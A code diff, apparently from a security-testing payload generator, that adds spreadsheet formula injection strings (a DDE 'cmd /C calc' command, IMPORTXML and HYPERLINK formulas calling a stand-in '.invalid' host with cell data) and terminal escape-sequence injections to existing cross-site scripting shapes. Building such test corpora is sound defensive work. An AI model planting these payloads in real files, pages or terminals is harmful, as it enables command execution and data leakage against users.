@@ -147,6 +147,15 @@ DOCUMENTS = (
     "<isindex action=javascript:{call} type=image>",
     "<x-{mark} onclick={call}>x</x-{mark}>",
 )
+FORMULAS = (
+    '=HYPERLINK("//{mark}.invalid/","{call}")',
+    "+cmd|' /C calc'!A0{mark}",
+    "@SUM(1)*cmd|'{mark}'!A0",
+    "-2+3+cmd|'{mark}'!A0",
+    "\t=1+1{mark}",
+    '=IMPORTXML(CONCAT("//{mark}.invalid/",A1),"//a")',
+)
+TERMINALS = ("\x1b]0;{mark}\x07", "\x1b[2J\x1b[31m{mark}", "\x9b31m{mark}", "{mark}\r\x1b[1A{call}")
 CODINGS = (
     quote,
     lambda text: quote(quote(text)),
@@ -162,17 +171,18 @@ COMBINED = (
     *(closer + core for closer, core in product(CLOSERS, CORES)),
     *(holder.replace("{url}", scheme) for holder, scheme in product(HOLDERS, SCHEMES)),
 )
-WRITTEN = (*STRINGS, *TEMPLATES, *STYLES, *DRAWINGS, *SHAPES, *DOCUMENTS)
+WRITTEN = (*STRINGS, *TEMPLATES, *STYLES, *DRAWINGS, *SHAPES, *DOCUMENTS, *FORMULAS, *TERMINALS)
 
 
 def _all() -> Iterator[str]:
     numbers = count(100)
     for shape in (*COMBINED, *WRITTEN):
         mark = f"{MARK}{next(numbers)}"
-        yield shape.format(call=f"alert('{mark}')", mark=mark)
+        yield shape.format(call=f"canary('{mark}')", mark=mark)
     for coding, core in product(CODINGS, CORES):
         mark = f"{MARK}{next(numbers)}"
-        yield f"{mark}{coding(core.format(call=f'alert({mark})'))}"
+        text = core.format(call=f"canary('{mark}')")
+        yield f"{mark}{coding(text)}"
 
 
 PAYLOADS: tuple[str, ...] = tuple(_all())
